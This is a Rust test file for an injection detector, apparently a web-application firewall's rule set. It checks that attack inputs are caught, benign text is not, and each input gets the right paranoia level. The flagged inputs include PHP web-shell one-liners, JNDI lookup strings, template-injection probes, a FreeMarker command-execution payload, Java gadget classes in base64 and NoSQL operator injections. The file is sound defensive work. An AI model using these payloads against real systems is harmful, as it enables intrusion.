use super::detect;

/// The lowest level that flags `v` (1 = the level-1 rules), or 5 when none does.
fn lowest_level(v: &str) -> u8 {
    crate::detect::test_support::lowest_level(v, detect, super::paranoid)
}

#[test]
fn payloads() {
    for a in [
        "phpinfo()",
        "<?php system($_GET['c']); ?>",
        "${@print(md5(31337))}",
        "${jndi:ldap://x.example/a}",
        "${${::-j}ndi:ldap://x}",
        "{{1337*1338}}",
        "${7*7}",
        "aaaa'+#{16*8787}+'bbb",
        "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
        "<!--#exec cmd=\"ls\" -->",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "require('child_process').exec('id')",
        "!!python/object/new:exec [import socket]",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "true, $where: '99 == 88'",
        "', $or: [ {}, { 'order':'order",
        "db.injection.insert({success:1});",
        "java.io.BufferedReader",
        "java.Runtime",
        "ProcessBuilder.evil.clonetransformer",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "exec\t(blah)",
        "exec/*comment*/()",
        "@{[system 'whoami']}",
        "<? echo 'hello'; ?>",
        "exec #comment\r\n (blah)",
        "return\"system\"(xyz).s",
        "system(whoami)",
        "$a(1)",
        "(system)(whoami)",
        "system()",
        "$_COOKIE",
        "while(!0);",
        "constructor.prototype.test",
        "__proto__",
        "@{   [   system \"id\"   ]   }",
        "Process.spawn(\"id\")",
        "$elemMatch",
        "$exists",
        ";var date = new Date(); do{curDate = new Date();}while(curDate-date",
        "0;var x=1",
        "@$__['o'](4)",
        "(system)('uname');",
        "FOOcall_user_func()",
        "@eval($_POST['x'])",
    ] {
        assert!(detect(a), "missed: {a}");
    }
}

#[test]
fn benign() {
    for b in [
        "Hello {{name}}, welcome",
        "The system (as designed) works",
        "Price is ${price}",
        "I'd like to include (if possible) a note",
        "java lang courses",
        "It costs $5 (plus tax)",
        "(see above)(ls is a command)",
        "Thank you (really)(id est)",
        "while (you wait) we work",
        "while(!true);",
        "email me @ {home}",
        "$ref",
        "$schema",
        "Pick one; var is short for variable",
        "$a[]()",
        "see (a) ('quoted')",
        "I use JavaScript and java every day",
        "md5 checksum of the file",
        "We evaluate (carefully) every request",
        "Use #{hashtag} in posts",
        "The price is $5 - $10",
        "I would like to request the bin with app_id: (]",
    ] {
        assert!(!detect(b), "false positive: {b}");
    }
}

#[test]
fn php_serialized_objects() {
    for a in [
        "O:8:\"stdClass\":0:{}",
        "x=O:4:\"User\":1:{s:5:\"admin\";b:1;}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:18:\"App\\Models\\Payload\":0:{}",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    // arrays and scalars carry no class; look-alike texts lack the exact shape
    for b in [
        "a:2:{i:0;s:1:\"a\";i:1;s:1:\"b\";}",
        "s:5:\"hello\";",
        "O:8 \"stdClass\" 0 {}",
        "Ratio O:3:\"abcdef\":1:{",
        "BIO:8:\"notes\":1:{x}",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn php_variable_calls() {
    for a in [
        "$a/*c*/()",
        "$a //x\n()",
        "$OOO0000O0 (16)",
        "${'a'}(11)",
        "$ {$a}(1)",
        "$x[0]['d'] /*lol*/ (17)",
        "$__[$_[1]](7)",
        "$OOO000000{0}(15)",
        "$____[_]{_}[@_](25)",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "costs $5 (five dollars)",
        "set $PATH (see the docs for details)",
        "Hello ${name} (admin)",
        "$(document).ready(fn)",
        "$.ajax(url)",
        "array $a[] (append)",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn php_assembled_callees() {
    for a in [
        "[system][0](ls);",
        "[ system ] [ 0 ] ( ls );",
        "(\"sys\".\"t\".\"em\")('uname');",
        "( string ) \"sys\".\"t\".\"em\" ('uname');",
        "(['system'])[0]('uname');",
        "(\"sy\".\"stem\")(ls);",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "see [1][2] (the system docs)",
        "\"Smith\".\"Jones\" (2019)",
        "items[0][1] (first row)",
        "the \"sys\".\"tem\" admin",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn php_recon_functions() {
    for a in ["posix_getpwuid(0)", "get_defined_vars()[0]", "curl_init()"] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in ["posix_getpwuid is a PHP function", "curl init failed"] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn template_blocks() {
    for a in [
        "{% if True %}49{% endif %}",
        "{%- for x in y -%}{{ x }}{%- endfor -%}",
        "<% if true %>49<% end %>",
        "<%= if True %>49<% endif %>",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "100% sure {% not a tag",
        "{% if x %} without an end",
        "50% <% off %> today",
        "{% raw %}text{% endraw %}",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn java_gadgets_in_base64_at_any_alignment() {
    use super::java_gadget_in_base64 as b64;
    for a in [
        "cnVudGltZQ",
        "HJ1bnRpbWU",
        "BydW50aW1l",
        "test=cHJvY2Vzc2J1aWxkZXI",
        "UHJvY2Vzc0J1aWxkZXI=",
        "aW52b2tlcnRyYW5zZm9ybWVy",
        "rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVy",
    ] {
        assert!(b64(a), "missed {a:?}");
    }
    for b in [
        "dGVzdA==",
        "aGVsbG8gd29ybGQ=",
        "a runtime error in the process builder",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0",
        "cnVu",
    ] {
        assert!(!b64(b), "flagged {b:?}");
    }
}

#[test]
fn obfuscated_calls() {
    for a in [
        "checkdate/*x*/()",
        "serialize#c\n()",
        "touch/*a\r\nb*/()",
        "pi\x0b()",
        "range \t/*x*/()",
        "FILE\r\n()",
        "chroot //x\n(1)",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "Item #3\n(see notes)",
        "Name\t(optional)",
        "Total:\n(5 items)",
        "hello (world)",
        "note/*typo*/ fixed",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn php_ini_assignments() {
    for a in [
        "allow_url_include=1",
        "memory_limit = 512M",
        "extension_dir=/path/to/example",
        "opcache.jit_max_polymorphic_calls=50",
        "mbstring.regex_retry_limit=true",
        "zend_extension=/tmp/x.so",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "search?engine=google",
        "memory_limit",
        "limit=10",
        "session.id=abc&x=1",
        "engine = ",
        "precision=high",
        "extension=pdf",
        "engine=v8",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn php_variable_variables() {
    for a in [
        "${'ff'}",
        "$ {'fdf'}",
        "$              {$a}",
        "$ {'_VAR'.'IABLE_NAME'}",
        "$     {   CONSTANT   }",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "${name}",
        "Hello ${user.name}!",
        "costs $ 5",
        "$ {not closed",
        "${}",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn java_packages_node_console_and_flight_references() {
    for a in [
        "org.omg.CORBA.ORB",
        "org.apache.commons.io.FileUtils",
        "console.error.apply(null,[1])",
        "console.log.call(this,'x')",
        "{\"a\":\"$3:constructor:constructor\"}",
        "{\"then\":\"$1:__proto__:then\"}",
        "[\"$a:Object:prototype:x\"]",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in [
        "org.apache is a foundation",
        "console.log is a function",
        "calls cost $1: see prototype pricing",
        "{\"price\":\"$5:00\"}",
        "{\"ref\":\"$1:user:name\"}",
    ] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn php_callees_with_comments() {
    for a in [
        "(/*x*/exec)(id/*y*/);",
        "( [ passthru ][ 0 ] ) {/*c*/0} ( whoami );",
    ] {
        assert!(detect(a), "missed {a:?}");
    }
    for b in ["(/* note */ see below)(and more)", "(a) {/* b */0} (c)"] {
        assert!(!detect(b), "flagged {b:?}");
    }
}

#[test]
fn paranoia_levels() {
    for (v, want) in [
        ("strrev( )", 2),
        ("is_array()", 2),
        ("array_diff (", 2),
        ("ldap_get_entries(", 2),
        ("filegroup  (x)", 2),
        ("unpack($data)", 3),
        ("printf(x)", 3),
        ("gethostbyname(", 3),
        ("pg_query_params(x)", 3),
        ("sodium_crypto_box_keypair ()", 2),
        ("fopen  (x)", 2),
        ("system (\"id\")", 2),
        ("exec/**/ (x)", 1),
        ("file_exists\n(\n)", 2),
        ("Shell_Exec=(1)", 2),
        ("$_P OST['a']", 3),
        ("precision=true", 2),
        ("<?xml :print 1;", 1),
        ("crypt(abc)", 3),
        ("date()", 3),
        ("${total}", 3),
        ("look<?", 3),
        ("$user->name", 4),
        ("Foo::bar", 4),
        ("$items[0]", 4),
    ] {
        assert_eq!(lowest_level(v), want, "{v:?}");
    }
}

#[test]
fn prose_passes_level_two() {
    for b in [
        "The system (as designed) works",
        "Date (optional)",
        "mail (see below)",
        "Price range (USD)",
        "Hello ${name}",
        "<?xml version=\"1.0\"?><a/>",
        "engine=v8 engine",
        "shell execution",
        "my base64 decoder",
        "Settings (advanced) ()",
        "the count() of rows",
        "Enter the date ()",
        "sort (",
        "Total ()",
    ] {
        assert!(
            lowest_level(b) > 2,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

#[test]
fn xml_dressed_open_tags() {
    assert_eq!(lowest_level("<?xml:print 1;"), 1);
    assert_eq!(lowest_level("<?xml \t();echo 1;"), 1);
    assert!(lowest_level("<?xml version=\"1.0\" encoding=\"UTF-8\"?>") > 2);
}

#[test]
fn level_four_called_groups() {
    assert_eq!(lowest_level("(a.(b).c)(@d)"), 4);
    assert!(lowest_level("(see above)(and below)") > 4);
}

#[test]
fn orm_lookup_keys() {
    for (v, want) in [
        ("password__startswith", 1),
        ("owner__api_key__regex", 1),
        ("username__istartswith", 2),
        ("team__members__email__iendswith", 2),
        ("meta__has_keys", 2),
    ] {
        assert_eq!(lowest_level(v), want, "{v:?}");
    }
    for b in [
        "name__exact",
        "city__in",
        "use field__startswith for filtering",
        "__init__",
        "my__var",
    ] {
        assert!(
            lowest_level(b) > 2,
            "flagged at level {}: {b:?}",
            lowest_level(b)
        );
    }
}

/// Functions named with `()` in a sentence, asides in parentheses, Java packages named in a
/// sentence and mail hosts under `sun.` are prose at levels 1 and 2; calls with arguments,
/// bare probes, gadget classes in code or JSON and the `sun.` packages stay caught.
#[test]
fn functions_and_packages_named_in_sentences() {
    for b in [
        "Fix a hang in system() when it is called from two threads at once",
        "Fix the sizes returned by readdir() in the count==0 mode.",
        "The helper no longer calls readdir() in the fast mode of the scanner",
        "Avoid hitting an assert() in the client library on shutdown",
        "Install the completion symlink (Closes: #12345) for every shell",
        "The class org.apache.commons.io.FileUtils is deprecated in this release.",
        "Packages like java.io and java.nio are part of the runtime now",
        "Signed-off-by: Some Person <some.person@sun.com>",
        "New helper: `thing_is_zero()` compares a buffer with zeros quickly",
    ] {
        assert!(
            lowest_level(b) > 2,
            "false positive at {}: {b}",
            lowest_level(b)
        );
    }
    for a in [
        "phpinfo()",
        "system()",
        "system('id')",
        "please system ('id') now thanks",
        "run exec(ls) for me now please",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "{\"@type\":\"org.apache.commons.io.x\"}",
        "sun.misc.Unsafe",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "java.lang.Runtime",
    ] {
        assert!(lowest_level(a) <= 2, "missed {a}");
    }
}

/// A dunder named on its own in a sentence is prose; dunders reached as attributes stay caught.
#[test]
fn dunders_named_in_sentences() {
    for b in [
        "- `__class__` and `super()` now work with frozen classes on Python 3.",
        "The `__class__` cell is now rewritten when the class is rebuilt",
    ] {
        assert!(
            lowest_level(b) > 2,
            "false positive at {}: {b}",
            lowest_level(b)
        );
    }
    for a in [
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "__class__",
        "x.__class__ and then some more plain words here",
        "the __globals__['os'] of this thing is nice to have",
    ] {
        assert!(lowest_level(a) <= 2, "missed {a}");
    }
}
